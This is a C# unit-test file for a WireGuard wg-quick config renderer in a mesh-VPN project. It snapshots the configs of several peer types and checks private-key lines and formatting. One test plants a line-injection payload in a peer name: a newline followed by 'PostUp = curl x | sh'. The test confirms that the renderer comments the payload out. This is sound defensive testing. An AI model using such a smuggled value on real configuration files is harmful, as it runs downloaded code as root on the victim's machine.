using Snapshooter;
using Snapshooter.Xunit;
using Wirety.Events.Peers;
using Wirety.Projections.Configs;
using Wirety.Projections.Networks;
using static Wirety.Tests.Unit.TestNetwork;

namespace Wirety.Tests.Unit.Configs;

/// <summary>
/// Snapshots of the rendered config of every peer in one mesh that has each kind of peer the
/// config rules distinguish. A changed snapshot is a changed config on real machines: review it.
/// </summary>
public class WgQuickRendererTests
{
    private static readonly string[] Names =
    [
        "jump-eu", "jump-us", "laptop", "build-server", "phone", "kiosk", "traveller", "compromised",
        "office-printer", "new-server",
    ];

    private static Guid Id(string name) => PeerId(Array.IndexOf(Names, name) + 1);

    /// <summary>
    /// jump-eu is the primary jump, jump-us the secondary with a site behind it; laptop and
    /// build-server mesh directly (build-server routes two LANs); phone's endpoint is unknown; kiosk
    /// is isolated; traveller is fully encapsulated; compromised is blocked; office-printer is a
    /// static peer with a LAN behind it; new-server has not enrolled yet.
    /// </summary>
    private static Network Mesh() => Create("10.42.0.0/24", dns: ["10.42.0.53"], domain: "mesh.internal", mtu: 1420)
        .AddPeer(Id("jump-eu"), "jump-eu", PeerKind.Jump, "JdN1GV5ddSLp8VTGRg4MLOpOug6ub2Uyj4GYnb4Rkek=",
            "eu.jump.example.net:51820", 51820)
        .AddPeer(Id("jump-us"), "jump-us", PeerKind.Jump, "H/sNN+XieOzQJTfTnsy72C/rt4kearHiP0rDoAmU8O4=",
            "us.jump.example.net:51820", 51820, additionalAllowedIps: ["10.60.0.0/16"])
        .AddPeer(Id("laptop"), "laptop", PeerKind.Dynamic, "n+E/p8A9P4at1DAxKwQ0KuFieS0oHkjTU/8zPFo3seU=",
            "203.0.113.10:51820", 51820)
        .AddPeer(Id("build-server"), "build-server", PeerKind.Dynamic, "MA7+BP5TTcZQdV0laI/zf7w283sVbX2oTp+Z1WEsWMo=",
            "198.51.100.7:51820", 51820, additionalAllowedIps: ["192.168.50.0/24", "fd00:50::/64"])
        .AddPeer(Id("phone"), "phone", PeerKind.Dynamic, "/kY22AuwKqadAEuAgKn6U413FaWfU5MISt3CaSSeMso=")
        .AddPeer(Id("kiosk"), "kiosk", PeerKind.Dynamic, "0K8cev3rnSWAgKJ6NVLa+ISWuFtND6nCpyLJmRlVKGA=",
            "203.0.113.20:51820", 51820, isolated: true)
        .AddPeer(Id("traveller"), "traveller", PeerKind.Dynamic, "2jnKCb4MOSfu3xhRpDlqL86sAALElA6atMtgu+vY6VY=",
            "203.0.113.30:51820", 51820, fullEncapsulation: true)
        .AddPeer(Id("compromised"), "compromised", PeerKind.Dynamic, "ItmGmAgqFT9myYsjqY6D1ZCjgFzOh+gW4CZVjLEs+TU=",
            "203.0.113.40:51820", 51820)
        .AddPeer(Id("office-printer"), "office-printer", PeerKind.Static, "Jn30McvqbM2EYrjIyy82Hz1eubApENkNUGa0RUAwMHI=",
            additionalAllowedIps: ["192.168.60.0/24"])
        .AddPeer(Id("new-server"), "new-server", PeerKind.Dynamic, endpoint: "198.51.100.99:51820")
        .Block(Id("compromised"));

    public static TheoryData<string> Peers => [.. Names];

    [Theory]
    [MemberData(nameof(Peers))]
    public void the_rendered_config_of_each_peer_matches_its_snapshot(string name)
    {
        var text = WgQuickRenderer.Render(ConfigBuilder.Build(Mesh(), Id(name)));

        Snapshot.Match(text, SnapshotNameExtension.Create(name));
    }

    [Fact]
    public void a_static_peer_downloaded_once_carries_its_private_key()
    {
        const string oneTimeKey = "OWaizQ/025Oc5V1P/hwl29UpkfReIjBwjIBD3B4qO/Q=";
        var text = WgQuickRenderer.Render(ConfigBuilder.Build(Mesh(), Id("office-printer")), oneTimeKey);

        Assert.Contains($"\nPrivateKey = {oneTimeKey}\n", text);
        Assert.DoesNotContain("# PrivateKey", text);
    }

    [Fact]
    public void without_a_private_key_the_key_line_is_a_comment()
    {
        var text = WgQuickRenderer.Render(ConfigBuilder.Build(Mesh(), Id("laptop")));

        Assert.Contains("\n# PrivateKey = (kept on the peer; the server never has it)\n", text);
        Assert.DoesNotContain("\nPrivateKey", text);
    }

    [Fact]
    public void the_text_uses_lf_line_endings_and_ends_with_a_newline()
    {
        var text = WgQuickRenderer.Render(ConfigBuilder.Build(Mesh(), Id("jump-eu")));

        Assert.DoesNotContain('\r', text);
        Assert.EndsWith("\n", text);
        Assert.DoesNotContain("\n\n\n", text);
    }

    [Fact]
    public void equal_configs_render_byte_identically()
    {
        foreach (var name in Names)
            Assert.Equal(WgQuickRenderer.Render(ConfigBuilder.Build(Mesh(), Id(name))),
                WgQuickRenderer.Render(ConfigBuilder.Build(Mesh(), Id(name))));
    }

    [Fact]
    public void a_name_cannot_inject_lines_into_the_file()
    {
        // wg-quick runs PostUp as a root shell command: a name must never start a line.
        var network = Mesh().WithPeer(Id("laptop"), p => p with { Name = "evil\nPostUp = curl x | sh\r\n" });

        var text = WgQuickRenderer.Render(ConfigBuilder.Build(network, Id("jump-eu")));

        Assert.DoesNotContain("\nPostUp", text);
        Assert.Contains("# evil?PostUp = curl x | sh?? (dynamic)\n", text);
    }
}
